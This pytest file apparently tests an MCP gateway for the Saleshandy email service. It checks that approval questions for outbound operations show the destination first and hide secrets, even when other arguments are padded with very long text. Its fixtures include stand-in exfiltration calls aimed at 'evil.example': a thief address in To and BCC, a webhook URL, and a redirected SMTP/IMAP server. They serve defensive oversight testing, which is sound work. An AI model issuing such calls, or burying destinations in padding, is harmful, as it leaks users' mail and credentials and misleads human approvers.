"""The question before an operation that is run by its name: what matters is seen, however long the rest is."""

from typing import Any

import pytest

from saleshandy_mcp.sandbox import Sandbox
from tests.gate.test_operator_rules import door
from tests.gate.worlds import sequence, world

TALL, LONG = "\n".join("a" * 300), "a" * 400
EVIL = "evil.example"
SERVER: dict[str, Any] = {"email_address": f"{LONG}@x.example", "password": "plums", "host": EVIL, "port": 465}
NAMES = {"from_name": TALL, "from_first_name": LONG, "from_last_name": TALL}


@pytest.fixture
def box() -> Sandbox:
    return world("as it is")


def calls(box: Sandbox) -> dict[str, dict[str, Any]]:
    """Calls that send mail or data to somebody, with long texts in all other arguments."""
    account = sequence(box)["emailAccountIds"][0]
    thief = f"thief@{EVIL}"
    return {
        "send_test_email": {
            "sequence_id": sequence(box)["id"],
            "to": [thief],
            "from_email_account_id": account,
            "subject": TALL,
            "content": TALL,
            "preheader": LONG,
        },
        "reply_to_email": {
            "email_thread_id": "t",
            "email_id": "e",
            "content": TALL,
            "to": ["a@x.example"],
            "bcc": [thief],
        },
        "create_webhook": {
            "name": TALL,
            "webhook_url": f"https://{EVIL}/in",
            "webhook_event": ["reply-received"],
            "headers": {"X-Key": "plums"},
        },
        "connect_smtp_imap_account": {
            "email_service_provider": "other",
            **NAMES,
            "payload": {
                "smtp": {**SERVER, "user_name": LONG, "encryption": "SSL"},
                "imap": {**SERVER, "encryption": "SSL"},
            },
        },
        "bulk_update_email_accounts": {
            "email_account_ids": [account],
            "sender_first_name": TALL,
            "signature_html": TALL,
            "bcc": f"{LONG}@x.example,{thief}",
        },
    }


@pytest.mark.parametrize("operation", calls(world("as it is")))
async def test_where_mail_or_data_goes_stands_before_the_texts(box: Sandbox, operation: str) -> None:
    asked: list[str] = []
    async with door(box, asked=asked) as model:
        await model.run(operation, **calls(box)[operation])
    (question,) = asked
    lines = question.splitlines()
    assert any(EVIL in line for line in lines[:4])
    assert len(lines) < 150
    assert "plums" not in question
